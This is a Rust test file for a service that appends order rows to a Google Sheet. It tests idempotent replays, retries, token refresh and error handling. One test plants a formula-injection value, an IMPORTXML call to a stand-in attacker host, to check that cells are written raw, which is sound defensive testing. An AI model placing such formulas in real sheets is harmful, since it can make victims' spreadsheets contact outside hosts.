//! One row for one order, whatever gets lost on the way.

use stepwell_fakes::{Mode, Service, Switch};
use tempfile::tempdir;

use super::*;
use crate::order_row::order_row;
use crate::testing::{fakes, order, shop};
use crate::verdict::{Retry, Verdict as _};

const APPEND: &str = "values.append";

fn row(id: &str) -> OrderRow {
    order_row(&order(id), "2026-01-02T03:04:05.678Z")
}

#[tokio::test]
async fn a_row_goes_below_the_last_one_raw_and_whole() {
    let (fakes, dir) = (fakes().await, tempdir().unwrap());
    let sheet = shop(&fakes, &dir).await.sheet.unwrap();
    let mut formula = row("ord_1");
    formula[3] = "=IMPORTXML(\"http://evil.example\")".to_owned();
    let first = sheet.append_once(&formula).await.unwrap();
    let second = sheet.append_once(&row("ord_2")).await.unwrap();
    assert_eq!(
        first,
        Appended {
            appended: true,
            updated_range: "Orders!A2:P2".to_owned()
        }
    );
    assert_eq!(second.updated_range, "Orders!A3:P3");
    assert_eq!(
        fakes.sheet_rows(),
        [formula.to_vec(), row("ord_2").to_vec()]
    );
}

#[tokio::test]
async fn a_lost_reply_and_a_replay_leave_one_row() {
    let (fakes, dir) = (fakes().await, tempdir().unwrap());
    let sheet = shop(&fakes, &dir).await.sheet.unwrap();
    sheet.append_once(&row("ord_0")).await.unwrap();
    fakes.switch(
        Switch::new(Service::Sheets, Mode::DropReply)
            .on(APPEND)
            .times(1),
    );
    let lost = sheet.append_once(&row("ord_1")).await.unwrap_err();
    assert_eq!(lost.retry(), Retry::Later, "{lost}");
    let found = sheet.append_once(&row("ord_1")).await.unwrap();
    assert_eq!(
        found,
        Appended {
            appended: false,
            updated_range: "Orders!A3:P3".to_owned()
        }
    );
    assert_eq!(fakes.sheet_rows().len(), 2);
    assert_eq!(fakes.calls().acted_on(Service::Sheets, APPEND), 2);
}

#[tokio::test]
async fn an_append_that_failed_is_done_by_the_next_attempt() {
    let (fakes, dir) = (fakes().await, tempdir().unwrap());
    let sheet = shop(&fakes, &dir).await.sheet.unwrap();
    let mode = Mode::Fail {
        status: 503,
        retry_after_s: None,
    };
    fakes.switch(Switch::new(Service::Sheets, mode).on(APPEND).times(2));
    for _ in 0..2 {
        assert!(sheet.append_once(&row("ord_1")).await.is_err());
    }
    assert!(sheet.append_once(&row("ord_1")).await.unwrap().appended);
    assert_eq!(fakes.sheet_rows().len(), 1);
}

#[tokio::test]
async fn a_token_that_ended_early_is_replaced_within_the_attempt() {
    let (fakes, dir) = (fakes().await, tempdir().unwrap());
    let sheet = shop(&fakes, &dir).await.sheet.unwrap();
    sheet.append_once(&row("ord_1")).await.unwrap();
    fakes.revoke_google_tokens();
    assert!(sheet.append_once(&row("ord_2")).await.unwrap().appended);
    assert_eq!(fakes.calls().acted(Service::GoogleToken), 2);
}

#[tokio::test]
async fn a_sheet_that_is_not_there_is_a_refusal_with_googles_reason() {
    let (fakes, dir) = (fakes().await, tempdir().unwrap());
    let mut config = crate::testing::config(&fakes, &dir, &[]);
    let settings = config.sheet.as_mut().unwrap();
    settings.spreadsheet_id = "another".to_owned();
    let sheet = crate::Shop::connect(config).await.unwrap().sheet.unwrap();
    let error = sheet.append_once(&row("ord_1")).await.unwrap_err();
    assert_eq!(error.retry(), Retry::Never);
    assert_eq!(
        error.to_string(),
        "call google sheets: it refused with 404 (NOT_FOUND)"
    );
}

#[test]
fn a_tab_is_quoted_when_its_name_is_no_plain_word() {
    for (tab, range) in [
        ("Sheet1", "Sheet1"),
        ("My Orders", "'My Orders'"),
        ("Ada's", "'Ada''s'"),
    ] {
        assert_eq!(quoted(tab), range);
    }
}
